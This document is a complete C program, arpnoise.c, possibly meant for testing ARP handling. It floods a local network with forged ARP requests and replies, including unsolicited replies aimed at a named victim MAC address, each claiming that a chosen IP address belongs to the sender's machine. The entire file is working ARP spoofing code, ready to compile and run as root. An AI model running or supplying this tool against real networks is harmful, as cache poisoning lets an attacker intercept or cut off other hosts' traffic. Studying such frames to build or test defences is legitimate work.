/*
 * arpnoise.c - ARP frames as neighbours of a dead path send them, and as liars
 * do.
 *
 *	arpnoise IFNAME ADDRESS VICTIM_MAC
 *
 * Ten times a second: a request from ADDRESS to all, a gratuitous reply to all,
 * and a reply to the victim alone that says that ADDRESS is here, as if it had
 * asked.  Ends with a signal, or after five minutes.
 */
#include <arpa/inet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/if_ether.h>
#include <netpacket/packet.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

#define LIFE_S 300

struct frame {
	struct ether_header eth;
	struct ether_arp arp;
} __attribute__((packed));

static uint8_t mac[ETH_ALEN], victim[ETH_ALEN];
static uint8_t address[4];

static const uint8_t all[ETH_ALEN] = { 0xff, 0xff, 0xff, 0xff, 0xff, 0xff };
static const uint8_t nobody[ETH_ALEN];

static void
send_arp(int fd, uint16_t op, const uint8_t *to, const uint8_t *tha,
    const uint8_t *tpa)
{
	struct frame f = { .eth.ether_type = htons(ETHERTYPE_ARP),
		.arp.ea_hdr = { .ar_hrd = htons(ARPHRD_ETHER),
		    .ar_pro = htons(ETHERTYPE_IP),
		    .ar_hln = ETH_ALEN,
		    .ar_pln = 4,
		    .ar_op = htons(op) } };

	memcpy(f.eth.ether_dhost, to, ETH_ALEN);
	memcpy(f.eth.ether_shost, mac, ETH_ALEN);
	memcpy(f.arp.arp_sha, mac, ETH_ALEN);
	memcpy(f.arp.arp_spa, address, sizeof(address));
	memcpy(f.arp.arp_tha, tha, ETH_ALEN);
	memcpy(f.arp.arp_tpa, tpa, 4);
	(void)!send(fd, &f, sizeof(f), 0);
}

static int
open_interface(const char *name)
{
	struct sockaddr_ll sll = { .sll_family = AF_PACKET,
		.sll_ifindex = (int)if_nametoindex(name) };
	struct ifreq ifr = { .ifr_ifindex = 0 };
	int fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);

	snprintf(ifr.ifr_name, sizeof(ifr.ifr_name), "%s", name);
	if (fd < 0 || ioctl(fd, SIOCGIFHWADDR, &ifr) < 0 ||
	    bind(fd, (struct sockaddr *)&sll, sizeof(sll)) < 0)
		return -1;
	memcpy(mac, ifr.ifr_hwaddr.sa_data, ETH_ALEN);
	return fd;
}

static bool
parse_mac(const char *text)
{
	uint8_t *v = victim;

	return sscanf(text, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &v[0], &v[1],
		   &v[2], &v[3], &v[4], &v[5]) == ETH_ALEN;
}

int
main(int argc, char **argv)
{
	static const uint8_t other[4] = { 192, 168, 85, 77 };
	static const uint8_t zero[4];
	int fd, i;

	if (argc != 4 || inet_pton(AF_INET, argv[2], address) != 1 ||
	    !parse_mac(argv[3]) || (fd = open_interface(argv[1])) < 0) {
		fputs("usage: arpnoise IFNAME ADDRESS VICTIM_MAC (as root)\n",
		    stderr);
		return 1;
	}
	for (i = 0; i < 10 * LIFE_S; i++) {
		send_arp(fd, ARPOP_REQUEST, all, nobody, other);
		send_arp(fd, ARPOP_REPLY, all, mac, address);
		send_arp(fd, ARPOP_REPLY, victim, victim, zero);
		usleep(100000);
	}
	close(fd);
	return 0;
}
